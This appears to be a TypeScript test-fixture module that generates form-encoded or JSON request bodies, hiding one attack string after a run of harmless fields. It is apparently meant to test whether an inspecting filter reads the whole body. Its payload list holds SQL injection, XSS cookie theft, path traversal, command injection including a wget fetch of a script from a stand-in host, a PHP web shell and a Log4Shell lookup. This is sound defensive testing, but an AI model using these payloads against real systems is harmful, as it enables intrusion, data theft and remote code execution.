/** A body whose attack is in its last piece: everything before it is harmless. */
export interface AttackBody {
  readonly type: string;
  readonly pieces: readonly string[];
}

const ATTACKS = [
  "1' or '1'='1' -- -",
  '1 union all select card,name from customers-- -',
  "admin' and sleep(5)#",
  "x'; drop table users; -- -",
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '../../../../../../etc/passwd',
  ';cat /etc/passwd',
  '$(wget http://192.0.2.7/x.sh)',
  "<?php system($_GET['c']); ?>",
  '${jndi:ldap://192.0.2.7/a}',
];
const WORDS = ['amber', 'lantern', 'garden', 'river', 'paper', 'window', 'morning', 'copper', 'silver', 'quiet', 'meadow', 'harbour'];
const FIELDS_PER_PIECE = 8;

const word = (n: number): string => WORDS[n % WORDS.length] ?? '';

/** The body of a number: forms and JSON in turn, of one to twelve harmless pieces and the one with the attack. */
export function attackBody(n: number): AttackBody {
  const attack = ATTACKS[n % ATTACKS.length] ?? '';
  const count = 1 + ((n * 7) % 12);
  const pairs = (piece: number): [string, string][] =>
    Array.from({ length: FIELDS_PER_PIECE }, (_, i) => [
      `${word(n + i)}${piece}${i}`,
      `${word(piece * i + n)} ${word(n + i * 5)} ${n + i}`,
    ]);
  const harmless = Array.from({ length: count }, (_, piece) => pairs(piece));
  if (n % 3 === 2) {
    const pieces = harmless.map((fields) => fields.map(([name, value]) => `${JSON.stringify(name)}:${JSON.stringify(value)},`).join(''));
    return { type: 'application/json', pieces: [`{${pieces[0] ?? ''}`, ...pieces.slice(1), `"note":${JSON.stringify(attack)}}`] };
  }
  const pieces = harmless.map((fields) => fields.map(([name, value]) => `${name}=${encodeURIComponent(value)}&`).join(''));
  return { type: 'application/x-www-form-urlencoded', pieces: [...pieces, `note=${encodeURIComponent(attack)}`] };
}
